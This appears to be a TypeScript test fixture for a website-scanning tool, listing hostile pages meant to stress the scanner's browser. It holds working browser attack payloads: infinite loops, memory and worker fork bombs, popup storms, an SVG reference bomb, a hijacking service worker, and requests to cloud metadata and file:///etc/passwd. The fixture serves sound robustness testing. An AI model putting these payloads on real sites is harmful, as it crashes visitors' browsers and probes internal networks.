import type { Behaviour } from '../behaviour.ts';
import { begin, drip, http, pageWith, pour, respond, soundPage } from '../serving.ts';

const HTML_CHECKS = /^(?:seo|aeo|accessibility|performance|security\/(?:headers|content))\//;
const script = (source: string) => `<script>${source}</script>`;
const EXHAUSTED = /memory|crashed|browser/;

interface Scripted {
  readonly name: string;
  readonly does: string;
  readonly source: string;
  readonly reason?: RegExp;
}

const SCRIPTED: readonly Scripted[] = [
  { name: 'alert storm', does: 'Opens one dialog after another.', source: 'for(;;){alert(1);confirm(2);prompt(3)}' },
  {
    name: 'dialog timers',
    does: 'Opens a dialog each millisecond.',
    source: 'setInterval(()=>alert("x".repeat(1e6)),1)',
  },
  {
    name: 'popups',
    does: 'Opens windows endlessly.',
    source:
      'setInterval(()=>{window.open("/");window.open("about:blank")},5);onload=()=>{for(let i=0;i<500;i++)window.open("/p"+i)}',
  },
  { name: 'print', does: 'Prints itself over and over.', source: 'setInterval(()=>print(),10)' },
  {
    name: 'beforeunload',
    does: 'Asks not to be left, and leaves.',
    source:
      'onbeforeunload=(e)=>{e.preventDefault();return e.returnValue="stay"};setTimeout(()=>location.href="/next",50)',
  },
  { name: 'endless script', does: 'Runs a script endlessly.', source: 'for(;;);' },
  {
    name: 'endless script after load',
    does: 'Runs a script endlessly once the page is there.',
    source: 'onload=()=>setTimeout(()=>{for(;;);},100)',
  },
  {
    name: 'endless microtasks',
    does: 'Queues microtasks endlessly.',
    source: '(function f(){Promise.resolve().then(f)})()',
  },
  {
    name: 'endless frames',
    does: 'Blocks every animation frame.',
    source: '(function f(){requestAnimationFrame(f);const t=performance.now();while(performance.now()-t<400);})()',
  },
  {
    name: 'idle callbacks',
    does: 'Leaves no idle moment.',
    source:
      '(function f(){requestIdleCallback(f);setTimeout(()=>{const t=performance.now();while(performance.now()-t<100);},0)})();setInterval(()=>{},0)',
  },
  {
    name: 'array bomb',
    does: 'Fills arrays until memory ends.',
    source: 'const a=[];for(;;)a.push(new Array(1e6).fill(Math.random()))',
    reason: EXHAUSTED,
  },
  {
    name: 'buffer bomb',
    does: 'Fills typed arrays until memory ends.',
    source: 'const a=[];for(;;)a.push(new Uint8Array(3e7).fill(7))',
    reason: EXHAUSTED,
  },
  {
    name: 'late buffer bomb',
    does: 'Fills typed arrays once the page has loaded.',
    source: 'onload=()=>setInterval(()=>{(window.a??=[]).push(new Uint8Array(3e7).fill(7))},1)',
    reason: EXHAUSTED,
  },
  {
    name: 'string bomb',
    does: 'Doubles a string until memory ends.',
    source: 'const a=[];let s="x";for(;;){s+=s+Math.random();a.push(s.split(""));if(s.length>1e8)s="x"}',
    reason: EXHAUSTED,
  },
  {
    name: 'DOM bomb',
    does: 'Adds elements endlessly.',
    source: 'for(;;)document.body.appendChild(document.createElement("div")).textContent="x".repeat(100)',
  },
  {
    name: 'slow DOM bomb',
    does: 'Adds a thousand elements every millisecond.',
    source:
      'setInterval(()=>{for(let i=0;i<1000;i++)document.body.appendChild(document.createElement("p")).textContent=i},1)',
  },
  {
    name: 'canvas bomb',
    does: 'Draws on hundreds of huge canvases.',
    source:
      'const a=[];for(let i=0;i<400;i++){const c=document.createElement("canvas");c.width=c.height=8000;const x=c.getContext("2d");x.fillRect(0,0,8000,8000);x.getImageData(0,0,8000,8000);a.push(c)}',
  },
  {
    name: 'WebAssembly bomb',
    does: 'Grows WebAssembly memories and writes to every page.',
    source:
      'const a=[];for(;;){const m=new WebAssembly.Memory({initial:1000});new Uint8Array(m.buffer).fill(1);a.push(m)}',
    reason: EXHAUSTED,
  },
  {
    name: 'blob bomb',
    does: 'Makes blobs endlessly.',
    source: 'const p="x".repeat(1e7),a=[];setInterval(()=>a.push(new Blob([p,p,p])),1)',
  },
  {
    name: 'worker fork bomb',
    does: 'Starts workers that start workers.',
    source:
      'const s="const u=location.href;for(let i=0;i<4;i++)new Worker(u);for(;;);";const u=URL.createObjectURL(new Blob([s]));for(let i=0;i<20;i++)new Worker(u)',
  },
  {
    name: 'worker memory',
    does: 'Fills memory in a worker.',
    source: 'new Worker(URL.createObjectURL(new Blob(["const a=[];for(;;)a.push(new Uint8Array(3e7).fill(7))"])))',
  },
  {
    name: 'pushState storm',
    does: 'Changes its address thousands of times.',
    source: 'let n=0;setInterval(()=>{for(let i=0;i<50;i++)try{history.pushState({},"","/p"+n++)}catch{}},1)',
  },
  {
    name: 'hash storm',
    does: 'Changes its fragment endlessly.',
    source: 'let n=0;setInterval(()=>{location.hash=n++},1)',
  },
  { name: 'reload loop', does: 'Reloads itself at once, each time.', source: 'location.reload()' },
  {
    name: 'navigation loop',
    does: 'Goes to another address of its own, each time.',
    source: 'location.href="/?"+Math.random()',
  },
  {
    name: 'late navigation loop',
    does: 'Goes elsewhere half a second after each load.',
    source: 'onload=()=>setTimeout(()=>location.href="/?"+Math.random(),500)',
  },
  {
    name: 'navigation to data:',
    does: 'Goes to a data: address.',
    source: 'location.href="data:text/html,<h1>gone</h1>"',
  },
  {
    name: 'navigation to blob:',
    does: 'Goes to a blob: address.',
    source: 'location.href=URL.createObjectURL(new Blob(["<h1>gone</h1>"],{type:"text/html"}))',
  },
  { name: 'navigation to file:', does: 'Goes to a file of the machine.', source: 'location.href="file:///etc/passwd"' },
  {
    name: 'navigation to chrome:',
    does: 'Goes to a page of the browser.',
    source: 'location.href="chrome://crash";window.open("chrome://kill")',
  },
  {
    name: 'navigation to metadata',
    does: 'Goes to the cloud metadata service.',
    source: 'location.href="http://169.254.169.254/latest/meta-data/"',
  },
  {
    name: 'console flood',
    does: 'Logs endlessly.',
    source: 'setInterval(()=>{for(let i=0;i<1000;i++)console.error("x".repeat(1000),{a:[i]})},1)',
  },
  {
    name: 'huge console message',
    does: 'Logs a hundred megabytes at once.',
    source: 'console.log("x".repeat(1e8));console.error("y".repeat(2e7))',
  },
  {
    name: 'error flood',
    does: 'Throws endlessly.',
    source: 'setInterval(()=>{throw new Error("z".repeat(1e5))},0);setInterval(()=>{Promise.reject("q")},0)',
  },
  {
    name: 'hostile prototypes',
    does: 'Replaces what scripts rely on.',
    source:
      'Array.prototype.map=Array.prototype.filter=Array.prototype.slice=()=>{throw 1};Object.prototype.toJSON=()=>{throw 2};JSON.stringify=()=>{for(;;);};Promise.prototype.then=()=>{};window.performance={now(){return -1e9}};document.querySelectorAll=()=>{for(;;);};Object.defineProperty(document,"documentElement",{get(){for(;;);}})',
  },
  {
    name: 'hostile getters',
    does: 'Puts endless getters where globals are looked for.',
    source:
      'for(const n of ["jQuery","React","Vue","angular","Shopify","wp","__NEXT_DATA__","$nuxt","_","dataLayer","ga","gtag","Stripe"])try{Object.defineProperty(window,n,{get(){for(;;);}})}catch{}',
  },
  {
    name: 'false vitals',
    does: 'Overrides the performance API with false numbers.',
    source:
      'PerformanceObserver=class{observe(){throw 1}};performance.getEntriesByType=()=>[{startTime:-1,responseStart:1e308}];Date.now=()=>NaN',
  },
  {
    name: 'axe impostor',
    does: 'Replaces axe-core with one that finds nothing and never finishes.',
    source:
      'Object.defineProperty(window,"axe",{value:{run:()=>new Promise(()=>{})},writable:false,configurable:false})',
  },
  {
    name: 'endless requests',
    does: 'Asks for another file every millisecond.',
    source: 'let n=0;setInterval(()=>{for(let i=0;i<20;i++)fetch("/f"+n++).catch(()=>{})},1)',
  },
  {
    name: 'private requests',
    does: "Asks for addresses of the scanner's network.",
    source:
      'for(const u of ["http://169.254.169.254/latest/meta-data/","http://[fd00:ec2::254]/","http://100.100.100.200/","file:///etc/passwd"]){fetch(u,{mode:"no-cors"}).catch(()=>{});new Image().src=u}',
  },
  {
    name: 'microphone and place',
    does: 'Asks for every permission there is.',
    source:
      'navigator.geolocation.getCurrentPosition(()=>{});Notification.requestPermission();navigator.mediaDevices?.getUserMedia({audio:true,video:true}).catch(()=>{});document.body?.requestFullscreen?.().catch(()=>{})',
  },
  {
    name: 'WebRTC',
    does: 'Opens peer connections to leave past the proxy.',
    source:
      'for(let i=0;i<50;i++){const p=new RTCPeerConnection({iceServers:[{urls:"stun:192.0.2.1:3478"}]});p.createDataChannel("a");p.createOffer().then((o)=>p.setLocalDescription(o)).catch(()=>{})}',
  },
  {
    name: 'storage flood',
    does: 'Fills every storage of the browser.',
    source:
      'const big="x".repeat(1e6);try{for(;;)localStorage[Math.random()]=big}catch{}indexedDB.open("a").onupgradeneeded=(e)=>{const s=e.target.result.createObjectStore("s");for(let i=0;i<40;i++)s.add(new Uint8Array(5e6),i)};for(let i=0;i<2000;i++)document.cookie="c"+i+"="+"v".repeat(3000)',
  },
  {
    name: 'mutation storm',
    does: 'Changes the page at every change of the page.',
    source:
      'new MutationObserver(()=>{document.body.setAttribute("a",Math.random());document.body.append("x")}).observe(document,{subtree:true,childList:true,attributes:true});setTimeout(()=>document.body.append("go"),50)',
  },
  {
    name: 'page that empties itself',
    does: 'Removes its own root element.',
    source: 'onload=()=>{document.documentElement.remove();document.open();document.close()}',
  },
  {
    name: 'endless document.write',
    does: 'Rewrites itself endlessly.',
    source: 'let n=0;setInterval(()=>{document.write("<p>"+n++)},1)',
  },
];

/** Pages that attack the scanner through the browser. */
export const SCRIPTS: readonly Behaviour[] = [
  ...SCRIPTED.map(({ name, does, source, reason }) => ({
    name,
    does,
    opens: pageWith(script(source)),
    judged: 'either' as const,
    finds: HTML_CHECKS,
    ...(reason ? { reason } : {}),
  })),
  {
    name: 'meta refresh loop',
    does: 'Refreshes itself at once, each time.',
    opens: http({ '/': soundPage('', '<meta http-equiv="refresh" content="0">') }),
    judged: 'either',
    finds: HTML_CHECKS,
  },
  {
    name: 'frames in frames',
    does: 'Contains itself three times, in frames.',
    opens: http({
      '/': soundPage(
        '<iframe title=a src="/?1"></iframe><iframe title=b src="/?2"></iframe><iframe title=c src="/a"></iframe>',
      ),
      '*': soundPage('<iframe title=a src="/a/b"></iframe><iframe title=b src="b/"></iframe>'),
    }),
    judged: 'either',
    finds: HTML_CHECKS,
  },
  {
    name: 'thousand frames',
    does: 'Holds a thousand frames.',
    opens: pageWith(Array.from({ length: 1000 }, (_, i) => `<iframe title="f${i}" src="/f${i}"></iframe>`).join(''), {
      '*': '<p>frame',
    }),
    judged: 'either',
    finds: HTML_CHECKS,
  },
  {
    name: 'service worker',
    does: 'Registers a service worker that answers everything itself.',
    opens: pageWith(
      script('navigator.serviceWorker?.register("/sw.js").then(()=>setTimeout(()=>location.reload(),100))'),
      {
        '/sw.js': respond(
          200,
          { 'content-type': 'text/javascript' },
          'onfetch=(e)=>e.respondWith(new Response("hijacked"));oninstall=()=>skipWaiting();onactivate=()=>clients.claim()',
        ),
      },
    ),
    judged: 'either',
    finds: HTML_CHECKS,
  },
  {
    name: 'event stream',
    does: 'Keeps event streams and web sockets open and busy.',
    opens: pageWith(
      script(
        'for(let i=0;i<5;i++)new EventSource("/events");setInterval(()=>{try{new WebSocket("ws://"+location.host+"/ws")}catch{}},5)',
      ),
      {
        '/events': begin({ 'content-type': 'text/event-stream' }, (response) =>
          drip(
            response,
            Array.from({ length: 100_000 }, () => `data: ${'x'.repeat(1000)}\n\n`),
            5,
          ),
        ),
      },
    ),
    judged: 'either',
    finds: HTML_CHECKS,
  },
  {
    name: 'long polling',
    does: 'Always has requests open that do not end.',
    opens: pageWith(script('for(let i=0;i<6;i++)(function f(){fetch("/poll"+Math.random()).then(f,f)})()'), {
      '*': () => {},
    }),
    judged: 'either',
    reason: /./,
    finds: HTML_CHECKS,
  },
  {
    name: 'downloads',
    does: 'Starts downloads endlessly.',
    opens: pageWith(
      script('setInterval(()=>{const a=document.createElement("a");a.href="/big";a.download="a";a.click()},5)'),
      {
        '/big': begin({ 'content-type': 'application/zip', 'content-disposition': 'attachment' }, (response) =>
          pour(response, () => Buffer.alloc(65_536)),
        ),
      },
    ),
    judged: 'either',
    finds: HTML_CHECKS,
  },
  {
    name: 'endless picture',
    does: 'Shows pictures, sound and film endlessly.',
    opens: pageWith(
      '<img src="/a.png" alt="a"><video autoplay muted src="/a.mp4"></video><audio autoplay src="/a.mp3"></audio>',
      {
        '*': begin({ 'content-type': 'image/png' }, (response) => pour(response, () => Buffer.alloc(65_536))),
      },
    ),
    judged: 'either',
    finds: HTML_CHECKS,
  },
  {
    name: 'style that never comes',
    does: 'Waits for a style sheet that never comes.',
    opens: http({ '/': soundPage('', '<link rel=stylesheet href="/never.css">'), '/never.css': () => {} }),
    judged: 'either',
    finds: HTML_CHECKS,
    reason: /./,
  },
  {
    name: 'style bomb',
    does: 'Brings selectors and filters that take minutes to draw.',
    opens: pageWith(
      `<style>${'*:has(*:has(* ~ *)) ~ * * * {filter:blur(90px) drop-shadow(0 0 90px red)}'.repeat(200)}</style>${'<div><span><b>x</b></span></div>'.repeat(3000)}`,
    ),
    judged: 'either',
    finds: HTML_CHECKS,
  },
  {
    name: 'picture bomb',
    does: 'Shows an SVG that refers to itself ten to the ninth times.',
    opens: pageWith(
      `<svg width="10" height="10" role="img" aria-label="a"><defs><g id="g0"><rect width="1" height="1"/></g>${Array.from({ length: 9 }, (_, i) => `<g id="g${i + 1}">${`<use href="#g${i}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#g9"/></svg>`,
    ),
    judged: 'either',
    finds: HTML_CHECKS,
  },
];
